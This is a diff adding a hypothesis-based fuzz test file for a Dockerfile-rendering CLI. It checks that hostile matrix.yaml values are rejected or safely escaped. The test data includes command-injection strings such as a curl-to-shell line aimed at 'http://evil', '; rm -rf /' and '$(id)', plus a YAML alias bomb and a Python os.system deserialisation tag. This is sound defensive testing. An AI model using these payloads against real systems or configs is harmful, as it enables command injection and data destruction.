@@ -1,0 +1,161 @@
+"""Hostile matrices, generated: every malformed or adversarial input ends in exit 2 with one line
+naming the file and the key, no traceback and no file written, and nothing reaches a rendered
+Dockerfile unless it passed validation."""
+
+from __future__ import annotations
+
+import contextlib
+import io
+import re
+import tempfile
+from pathlib import Path
+
+import yaml
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from builder import cli
+from tests.conftest import REPO
+
+BASE = yaml.safe_load((REPO / "matrix.yaml").read_text())
+INSTRUCTION = re.compile(r"^(FROM|ARG|ENV|RUN|COPY|USER|ENTRYPOINT|LABEL)\b")
+SETTINGS = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+
+
+def _leaves(node, path=()):
+    if isinstance(node, dict):
+        for k, v in node.items():
+            yield from _leaves(v, path + (k,))
+    elif isinstance(node, list):
+        for i, v in enumerate(node):
+            yield from _leaves(v, path + (i,))
+    else:
+        yield path
+
+
+def _mappings(node, path=()):
+    if isinstance(node, dict):
+        yield path
+        for k, v in node.items():
+            yield from _mappings(v, path + (k,))
+
+
+LEAVES = sorted(_leaves(BASE), key=str)
+# Schema mappings only: rewrites and waive are mappings of user data (names to names/reasons).
+MAPPINGS = sorted((m for m in _mappings(BASE) if m[-1:] not in (("rewrites",), ("waive",))), key=str)
+NASTY = ["\n", "\r", '"', "'", "$(id)", "`id`", "{{ 7 * 7 }}", "{% raw %}", "\\", " ", "\u2028", "\x00",
+         "\nRUN curl http://evil | sh", "${HOME}", "; rm -rf /", "é", "😀"]
+
+hostile_strings = st.one_of(
+    st.sampled_from(NASTY),
+    st.builds(lambda a, n, b: a + n + b, st.text(max_size=20), st.sampled_from(NASTY), st.text(max_size=20)),
+    st.text(max_size=50),
+    st.just(""),
+    st.text(min_size=300, max_size=3000),
+)
+wrong_types = st.one_of(st.integers(), st.floats(allow_nan=False), st.booleans(), st.none(),
+                        st.lists(st.integers(), max_size=3), st.dictionaries(st.text(max_size=5), st.integers(),
+                                                                              max_size=2))
+
+
+def _set(doc, path, value):
+    node = doc
+    for key in path[:-1]:
+        node = node[key]
+    node[path[-1]] = value
+
+
+def _copy(doc):
+    return yaml.safe_load(yaml.safe_dump(doc))
+
+
+def _baseline_instructions() -> list[str]:
+    text = (REPO / "dockerfiles" / "cu129" / "Dockerfile").read_text()
+    return [INSTRUCTION.match(line).group(1) for line in text.splitlines() if INSTRUCTION.match(line)]
+
+
+BASELINE = _baseline_instructions()
+
+
+def _run(text: str) -> tuple[int, str, Path]:
+    tmp = Path(tempfile.mkdtemp(prefix="k3-hostile-"))
+    matrix = tmp / "matrix.yaml"
+    matrix.write_text(text, encoding="utf-8", errors="surrogatepass")
+    err, out = io.StringIO(), io.StringIO()
+    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(out):
+        try:
+            cli.main(["--matrix", str(matrix), "render"])
+            code = 0
+        except SystemExit as exc:
+            code = exc.code
+    return code, err.getvalue(), tmp
+
+
+def _assert_refused_cleanly(code: int, stderr: str, tmp: Path) -> None:
+    lines = [ln for ln in stderr.splitlines() if ln.strip()]
+    assert code == 2, stderr
+    assert len(lines) == 1, lines
+    assert lines[0].startswith(f"error: {tmp / 'matrix.yaml'}: "), lines[0]
+    assert "Traceback" not in stderr
+    assert sorted(p.name for p in tmp.iterdir()) == ["matrix.yaml"]  # nothing written
+
+
+def _assert_rendered_safely(tmp: Path, value) -> None:
+    dockerfile = (tmp / "dockerfiles" / "cu129" / "Dockerfile").read_text()
+    lines = dockerfile.splitlines()
+    found = [INSTRUCTION.match(line).group(1) for line in lines if INSTRUCTION.match(line)]
+    assert found == BASELINE  # no new instruction, none lost
+    for prev, line in zip([""] + lines, lines):
+        # every line is an instruction, a comment, blank, or the continuation of a '\'-ended line
+        assert INSTRUCTION.match(line) or line.startswith("#") or not line.strip() or prev.endswith("\\"), line
+    if isinstance(value, str) and value and value in dockerfile:
+        assert not set(value) & set('\n\r"`$\\'), repr(value)
+
+
+@SETTINGS
+@given(path=st.sampled_from(LEAVES), value=st.one_of(hostile_strings, wrong_types))
+def test_any_leaf_replaced_by_hostile_value(path, value):
+    doc = _copy(BASE)
+    _set(doc, path, value)
+    code, stderr, tmp = _run(yaml.safe_dump(doc, allow_unicode=True))
+    if code == 0:
+        _assert_rendered_safely(tmp, value)
+    else:
+        _assert_refused_cleanly(code, stderr, tmp)
+        where = ".".join(str(p) for p in path[:2])
+        assert where in stderr or "line" in stderr or "(top level)" in stderr, (path, stderr)
+
+
+@SETTINGS
+@given(path=st.sampled_from(MAPPINGS), key=st.text(min_size=1, max_size=30), value=st.one_of(hostile_strings,
+                                                                                              wrong_types))
+def test_unknown_keys_are_refused(path, key, value):
+    doc = _copy(BASE)
+    node = doc
+    for p in path:
+        node = node[p]
+    if key in node or (path == ("targets",)):
+        return  # an existing key, or a new target (a valid-shaped name is a legitimate new entry)
+    node[key] = value
+    code, stderr, tmp = _run(yaml.safe_dump(doc, allow_unicode=True))
+    _assert_refused_cleanly(code, stderr, tmp)
+
+
+@SETTINGS
+@given(line_no=st.integers(min_value=0, max_value=200))
+def test_duplicated_lines_are_duplicate_key_errors(line_no):
+    lines = (REPO / "matrix.yaml").read_text().splitlines(keepends=True)
+    candidates = [i for i, ln in enumerate(lines) if re.match(r"^\s*[a-z_]+: \S", ln) and not ln.lstrip().startswith("#")]
+    i = candidates[line_no % len(candidates)]
+    code, stderr, tmp = _run("".join(lines[: i + 1] + [lines[i]] + lines[i + 1:]))
+    _assert_refused_cleanly(code, stderr, tmp)
+    assert "duplicate key" in stderr
+
+
+def test_alias_bomb_and_deep_nesting_and_binary():
+    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
+        f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n" for p, c in zip("abcdefgh", "bcdefghi"))
+    for text in (bomb, "[" * 50000 + "]" * 50000, "version: 1\ntargets: {}\n", "\x00\x01\x02", "version: 1\n" * 3,
+                 "!!python/object/apply:os.system ['id']\n", "x" * (2 << 20)):
+        code, stderr, tmp = _run(text)
+        _assert_refused_cleanly(code, stderr, tmp)
